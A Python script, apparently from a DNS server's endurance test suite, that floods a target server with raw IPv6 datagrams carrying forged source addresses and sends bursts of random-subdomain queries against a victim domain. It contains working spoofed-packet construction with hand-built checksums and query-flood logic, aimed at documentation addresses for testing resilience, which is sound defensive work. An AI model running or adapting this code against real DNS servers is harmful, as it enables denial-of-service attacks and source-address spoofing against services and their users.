"""Attackers, to be run inside a namespace as root: ``hostile_clients.py --seed N --seconds S SERVER ADDRESS…``.

Floods with forged source addresses, and queries for random names below a domain whose name server is slow: both in bursts
that are bounded in number and time. It prints a JSON object with what was done.
"""

from __future__ import annotations

import argparse
import contextlib
import ipaddress
import json
import socket
import struct
import sys
import time
from collections import Counter
from random import Random
from typing import TYPE_CHECKING, Final

import dns.message

if TYPE_CHECKING:
    from collections.abc import Iterator, Sequence

FORGED_SOURCES: Final = ipaddress.IPv6Network("2001:db8:f::/48")
"""Half of them in a network that is answered: see `tests.endurance.network`."""
FLOOD: Final = 20_000
FLOOD_EACH: Final = 10.0
FORGED: Final = 5 * FLOOD
"""Datagrams that are forged before it begins: to forge them in between would take the processor from those who are flooded."""
RANDOM_NAMES: Final = 400
"""A second, for `RANDOM_NAMES_LAST` of each `RANDOM_NAMES_EACH` seconds."""
RANDOM_NAMES_LAST: Final = 5.0
RANDOM_NAMES_EACH: Final = 20.0
_SLICE: Final = 200
_KNOWN: Final = 300


class Hostile:
    """One attacker's sockets and random choices."""

    def __init__(self, server: str, addresses: Sequence[str], seed: int, intensity: float) -> None:
        self.done: Counter[str] = Counter()
        self._slice = max(1, round(_SLICE * intensity))
        self._names = max(1, round(RANDOM_NAMES / 100 * intensity))
        self._server = ipaddress.IPv6Address(server)
        self._random = Random(seed)  # noqa: S311 - the same each time
        self._raw = socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_RAW)
        self._target = (server, 0)
        self._known = [
            dns.message.make_query(f"k{number}.good.example.", "AAAA", use_edns=0).to_wire()
            for number in range(_KNOWN)
        ]
        self._forged = [self._forge(self._message()) for _ in range(max(1, round(FORGED * intensity)))]
        self._own = []
        for address in addresses:
            channel = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
            channel.bind((address, 0))
            channel.setblocking(False)
            self._own.append(channel)

    def flood(self) -> Iterator[None]:
        """Send a burst spread over a second: known names, some that nobody knows, junk. Yields between its slices."""
        forged = self._forged
        at = self._random.randrange(len(forged))
        for _ in range(FLOOD // _SLICE):
            for _ in range(self._slice):
                at = (at + 1) % len(forged)
                with contextlib.suppress(OSError):
                    self._raw.sendto(forged[at], self._target)
                    self.done["forged datagrams"] += 1
            yield

    def _message(self) -> bytes:
        chance = self._random.random()
        if chance < 0.75:
            return self._random.randbytes(2) + self._random.choice(self._known)[2:]
        if chance < 0.8:
            return self._query(f"f{self._random.randrange(1 << 32)}.good.example.")
        return self._random.randbytes(self._random.randrange(1, 100))

    def _query(self, name: str) -> bytes:
        labels = b"".join(bytes([len(label)]) + label.encode() for label in name.split("."))
        head = struct.pack("!6H", self._random.randrange(65536), 0x0100, 1, 0, 0, 1)
        return head + labels + bytes.fromhex("001c0001 00 0029 04d0 00000000 0000")

    def _forge(self, message: bytes) -> bytes:
        """Return an IPv6 packet with a random source."""
        source = (int(FORGED_SOURCES.network_address) | self._random.getrandbits(80)).to_bytes(16, "big")
        length = 8 + len(message)
        ports = struct.pack("!HHH", self._random.randrange(1024, 65536), 53, length)
        addresses = source + self._server.packed
        padded = addresses + struct.pack("!II", length, 17) + ports + message + b"\0" * (len(message) % 2)
        # The sum of all words in one's complement is what the number is modulo 65535.
        checksum = 0xFFFF - int.from_bytes(padded, "big") % 0xFFFF or 0xFFFF
        return (
            struct.pack("!IHBB", 0x60000000, length, 17, 64)
            + addresses
            + ports
            + struct.pack("!H", checksum)
            + message
        )

    def random_names(self) -> Iterator[None]:
        """Ask for names below the victim's domain at a steady rate. Yields between slices."""
        for _ in range(int(RANDOM_NAMES_LAST * 100)):
            for _ in range(self._names):
                with contextlib.suppress(OSError):
                    query = self._query(f"x{self._random.getrandbits(48):x}.victim.example.")
                    self._random.choice(self._own).sendto(query, (str(self._server), 53))
                    self.done["queries for random names"] += 1
            yield


def main() -> None:
    """Attack until the time is over."""
    parser = argparse.ArgumentParser()
    parser.add_argument("--seed", type=int, required=True)
    parser.add_argument("--seconds", type=float, required=True)
    parser.add_argument("--intensity", type=float, default=1.0, help="what to multiply all rates by")
    parser.add_argument("server")
    parser.add_argument("addresses", nargs="+")
    options = parser.parse_args()
    hostile = Hostile(options.server, options.addresses, options.seed, options.intensity)
    now = time.monotonic()
    end = now + options.seconds
    due = {hostile.flood: now + FLOOD_EACH / 2, hostile.random_names: now + 3.0}
    every = {hostile.flood: FLOOD_EACH, hostile.random_names: RANDOM_NAMES_EACH}
    running: list[Iterator[None]] = []
    while (now := time.monotonic()) < end:
        for begin, when in due.items():
            if now >= when:
                running.append(begin())
                due[begin] = when + every[begin]
        running = [attack for attack in running if next(attack, 0) is None]
        time.sleep(max(0.0, now + 0.01 - time.monotonic()))
    sys.stdout.write(json.dumps(hostile.done) + "\n")


if __name__ == "__main__":
    main()
